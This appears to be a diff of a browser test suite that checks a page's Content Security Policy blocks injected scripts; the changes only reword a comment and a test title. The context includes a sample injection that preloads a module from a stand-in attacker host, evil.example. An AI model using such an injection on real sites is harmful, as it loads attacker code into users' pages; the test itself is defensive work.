@@ -7,7 +7,7 @@ beforeAll(async () => {
 })
 afterAll(() => house?.close())
 
-/** What a script of somebody else's would try, and what the browser says of it. */
+/** What an injected script would try, and what the browser says of it. */
 const TRIES: Readonly<Record<string, [tried: string, refused: RegExp]>> = {
   'a script from elsewhere': [
     `document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: 'https://evil.example/a.js' }))`,
@@ -30,7 +30,7 @@ const TRIES: Readonly<Record<string, [tried: string, refused: RegExp]>> = {
   ],
 }
 
-test('a story fails in whose page anything goes against the policy, and the browser keeps it from happening', async () => {
+test('a story fails when anything in its page violates the policy, and the browser prevents the violation', async () => {
   for (const [what, [tried, refused]] of Object.entries(TRIES)) {
     const { page, close } = await house.open()
     await page.goto('/auth')
